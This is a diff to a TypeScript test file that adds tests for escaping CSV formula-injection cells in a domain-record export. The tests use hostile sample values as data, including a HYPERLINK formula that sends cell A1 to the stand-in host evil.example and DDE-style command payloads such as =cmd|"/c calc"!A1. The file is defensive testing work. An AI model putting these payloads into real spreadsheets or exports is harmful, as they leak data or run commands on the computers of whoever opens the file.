@@ -1,5 +1,6 @@
+import { parse } from 'csv-parse/sync';
 import { InvalidError } from '../common/errors';
-import { MAX_IMPORT_ROWS, readDomainCsv, writeDomainCsv } from './domain-csv';
+import { escapeFormula, MAX_IMPORT_ROWS, readDomainCsv, unescapeFormula, writeDomainCsv, type CsvRecord } from './domain-csv';
 
 const HEADER = 'name,client,registrar,registeredAt,expiresAt,statuses';
 
@@ -70,5 +71,49 @@ describe('writeDomainCsv', () => {
     expect(csv.split('\n')[0]).toBe(HEADER);
     expect(csv).toContain('"Pence, Linda ""Art"""');
     expect(readDomainCsv(csv).map((r) => r.values)).toEqual(records);
+  });
+});
+
+describe('formula cells (CSV injection)', () => {
+  const record = (client: string, registrar = ''): CsvRecord => ({ name: 'lindapence.com', client, registrar, registeredAt: '', expiresAt: '', statuses: '' });
+
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
+    ['+1-555-0100', "'+1-555-0100"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
+    ['\tcmd', "'\tcmd"],
+    ['\r=1', "'\r=1"],
+    ['＝1+1', "'＝1+1"],
+    ['＠SUM(A1)', "'＠SUM(A1)"],
+    // A value that starts with quotes and then a formula character: one more quote.
+    ["'=x", "''=x"],
+    ["''-x", "'''-x"],
+    // Everything else untouched, quotes included.
+    ["'Gandi", "'Gandi"],
+    ["'", "'"],
+    ["''", "''"],
+    ['Linda Pence Art', 'Linda Pence Art'],
+    ['a=b', 'a=b'],
+    ['', ''],
+  ])('writes %j as the cell %j and reads it back', (value, cell) => {
+    expect(escapeFormula(value)).toBe(cell);
+    expect(unescapeFormula(cell)).toBe(value);
+  });
+
+  it('reads a cell a person wrote with a quote in front of a formula as the formula text', () => {
+    expect(unescapeFormula("'=1+1")).toBe('=1+1');
+    expect(unescapeFormula("'Gandi")).toBe("'Gandi");
+  });
+
+  it('writes no cell of the export that a spreadsheet would run, in any column, and reads every value back', () => {
+    const hostile = ['=cmd|"/c calc"!A1', '+SUM(1)', '-1', '@x', '\tx', '\rx', "'=x", "''@x", '＋x', "'Gandi", 'Gandi, Inc.', 'Pence "Art"', 'line\nbreak'];
+    const records = hostile.map((v, i) => ({ ...record(v, v), name: `x${i}.com`, statuses: v }));
+    const csv = writeDomainCsv(records);
+    const cells = parse(csv, { relax_column_count: true }) as string[][];
+    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
+    expect(readDomainCsv(csv).map((r) => r.values)).toEqual(records);
+    // And again: an export of what was imported is the same file.
+    expect(writeDomainCsv(readDomainCsv(csv).map((r) => r.values as CsvRecord))).toBe(csv);
   });
 });
